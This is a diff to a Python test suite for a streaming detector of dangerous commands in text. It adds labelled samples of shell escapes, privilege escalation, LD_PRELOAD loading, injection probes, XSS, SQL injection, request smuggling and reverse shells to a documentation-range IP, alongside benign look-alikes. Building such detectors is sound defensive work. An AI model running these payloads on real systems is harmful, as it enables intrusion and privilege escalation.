@@ -75,6 +75,37 @@ DANGEROUS = [
      "</tool_call>", "danger.spam"),
     ("; cat /etc/passwd", "danger.command_injection"),
     ("vim -c ':!/bin/sh'", "danger.shell_escape"),
+    # shell escapes: a shell started from inside another program
+    ("find . -exec /bin/sh \\; -quit", "danger.shell_escape"),
+    ("awk 'BEGIN {system(\"/bin/sh\")}'", "danger.shell_escape"),
+    ("python3 -c 'import os; os.system(\"/bin/sh\")'", "danger.shell_escape"),
+    ("less /etc/profile\n!/bin/sh", "danger.shell_escape"),
+    ("tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh", "danger.shell_escape"),
+    ("zip /tmp/x.zip /etc/hosts -T -TT 'sh #'", "danger.shell_escape"),
+    ("env /bin/sh", "danger.shell_escape"),
+    ("timeout 7d /bin/sh", "danger.shell_escape"),
+    ("stdbuf -i0 /bin/sh", "danger.shell_escape"),
+    ("gdb -nx -ex '!sh' -ex quit", "danger.shell_escape"),
+    ("PAGER='sh -c \"exec sh 0<&1\"' git -p help", "danger.shell_escape"),
+    ("ssh -o ProxyCommand=';sh 0<&2 1>&2' x", "danger.shell_escape"),
+    ("rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null", "danger.shell_escape"),
+    ("node -e 'require(\"child_process\").spawn(\"/bin/sh\", {stdio: [0, 1, 2]})'", "danger.shell_escape"),
+    ("emacs -Q -nw --eval '(term \"/bin/sh\")'", "danger.shell_escape"),
+    ("sed -n '1e exec sh 1>&0' /etc/hosts", "danger.shell_escape"),
+    ("valgrind /bin/sh", "danger.shell_escape"),
+    ("sudo -u#-1 /bin/bash", "danger.privilege_escalation"),
+    ("./find . -exec /bin/sh -p \\; -quit", "danger.privilege_escalation"),
+    ("python -c 'import os; os.setuid(0); os.system(\"/bin/sh\")'", "danger.privilege_escalation"),
+    ("LD_PRELOAD=/tmp/evil.so sudo id", "danger.library_load"),
+    ("ssh-keygen -D ./lib.so", "danger.library_load"),
+    # bare injection probes: short fragments must change too
+    (";id", "danger.command_injection"),
+    ("| uname -a", "danger.command_injection"),
+    ("&& sleep 5", "danger.command_injection"),
+    # multi-line payloads
+    ("<script>\n  alert(document.cookie)\n</script>", "danger.xss"),
+    (("import socket, os\ns = socket.socket()\ns.connect((\"198.51.100.7\", 9001))\nos.dup2(s.fileno(), 0)\n"
+      "os.system(\"/bin/sh\")"), "danger.reverse_shell"),
 ]
 
 BENIGN = [
@@ -99,6 +130,28 @@ BENIGN = [
     "澳门是中国的特别行政区，以旅游业闻名。",
     "The heist movie spends an hour inside a casino.",
     "And then run `make test` again; or skip it if nothing changed.",
+    # look-alikes of the shell-escape rules: tldr-style help and everyday code
+    "Open a file in Vim:\nvim path/to/file",
+    "Find files by extension:\nfind root_path -name '*.ext'",
+    "Find files and run a command on each:\nfind . -name '*.log' -exec gzip {} \\;",
+    "Print the second column:\nawk '{print $2}' path/to/file",
+    "Start an interactive shell in a container:\nkubectl exec -it pod_name -- /bin/bash",
+    "Change the login shell:\nchsh -s /bin/zsh",
+    "Create a user with bash as the shell:\nsudo useradd -m -s /bin/bash deploy",
+    "Run a command with a lower priority:\nnice -n 10 make -j4",
+    "Run a command with a time limit:\ntimeout 10s ./long_task.sh",
+    "subprocess.run([\"bash\", \"build.sh\"], check=True)\npath = shutil.which(\"bash\")",
+    "Reload the shell configuration:\nexec zsh",
+    "Show the manual page for ls:\nman ls",
+    "Use less to page output:\nless +F path/to/log",
+    "Extract an archive:\ntar xvf path/to/archive.tar",
+    "ssh -p 2222 user@host && mkdir -p ~/.config/app",
+    "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ./server",
+    "lib = ctypes.CDLL(\"libc.so.6\")",
+    "git config --global core.pager 'less -R'",
+    "ssh -o ProxyCommand='ssh -W %h:%p bastion' host",
+    "rm -rf node_modules && npm ci",
+    "The shell escape `!sh` in a pager is why less should never run as root.\n\nUse `sudoedit` instead.",
 ]
 
 
@@ -160,12 +213,59 @@ def test_rule_examples(danger):
 
 
 def test_every_rule_is_bounded_by_the_hold_back(danger, privilege):
-    """The stream editor holds back max_pending_chars: no match may be longer."""
-    for limit, rules in ((danger.max_pending_chars, danger.rules),
-                         (privilege.max_pending_chars, privilege.rules)):
-        for rule in rules:
+    """The stream editor may hold back max_pending_chars: no rule may read further than that."""
+    for limit, detector in ((danger.max_pending_chars, danger), (privilege.max_pending_chars, privilege)):
+        for rule in detector.rules:
             widest = sre_parse.parse(rule.pattern.pattern, rule.pattern.flags).getwidth()[1]
-            assert widest <= limit, f"{rule.id} can match {widest} characters (limit {limit})"
+            reach = detector.engine.reach[rule.id]
+            assert widest <= reach <= limit, f"{rule.id} can read {reach} characters (limit {limit})"
+
+
+def test_line_rules_never_span_a_line_and_multiline_rules_are_keyword_led(danger, privilege):
+    text = "rm -rf\n/ ; curl http://198.51.100.7/x.sh |\nsh\n' OR\n'1'='1"
+    for detector in (danger, privilege):
+        multi = {r.id for r, _, _ in detector.engine.multi_rules}
+        assert all(r.match_at_keywords for r, _, _ in detector.engine.multi_rules)
+        for f in detector.scan(text):
+            assert "\n" not in text[f.start:f.end] or f.rule in multi
+    assert categories(danger.scan("rm -rf\n/")) == set()
+
+
+STREAM_TEXTS = [
+    "Clean up with `rm -rf ./build`, then:\nbash -i >& /dev/tcp/198.51.100.7/9001 0>&1\nand more text after it.\n",
+    ("import socket, os\ns = socket.socket()\ns.connect((\"198.51.100.7\", 9001))\nos.dup2(s.fileno(), 0)\n"
+     "os.system(\"/bin/sh\")\nprint('done')\n"),
+    "Here is the page:\n<div>\n<script>\n  alert(document.cookie)\n</script>\n</div>\nThat's all.",
+    "POST / HTTP/1.1\nHost: a.example\nContent-Length: 13\nTransfer-Encoding: chunked\n\n0\n\nG",
+    ("An attacker could send ' OR '1'='1 -- here.\nusername: admin' OR '1'='1' --\nvim -c ':!/bin/sh'\n"
+     "{\"Effect\": \"Allow\",\n \"Action\": \"*\",\n \"Resource\": \"*\"}\nsudo setenforce 0\n"),
+    "A long paragraph of ordinary prose that keeps going without a line break, " * 12 + "then `;id` at the end",
+]
+
+
+@pytest.mark.parametrize("text", STREAM_TEXTS)
+def test_findings_before_pending_start_are_final(danger, privilege, text):
+    """The streaming contract: nothing before `pending_start` changes when more text arrives."""
+    for detector in (danger, privilege):
+        full = detector.scan(text)
+        for end in range(len(text) + 1):
+            partial = text[:end]
+            cut = detector.pending_start(partial)
+            assert 0 <= cut <= end
+            early = [f for f in detector.scan(partial) if f.end <= cut]
+            assert early == [f for f in full if f.end <= cut and f.start < cut], (end, cut)
+
+
+def test_pending_tail_is_the_unfinished_line(danger, privilege):
+    text = "ls -la\ncd src\nmake -j4 && ./run"
+    assert danger.pending_start(text) == text.rindex("\n") + 1
+    assert privilege.pending_start(text) == text.rindex("\n") + 1
+    assert danger.pending_start(text + "\n") == len(text) + 1
+    long_line = "word " * 400
+    assert danger.pending_start(long_line) >= len(long_line) - danger.engine.line_reach
+    # a keyword of a multi-line rule near the end holds back from there
+    code = "s = socket.socket()\nx = 1\ny = 2\n"
+    assert danger.pending_start(code) == code.index("socket")
 
 
 PRIVILEGE = [
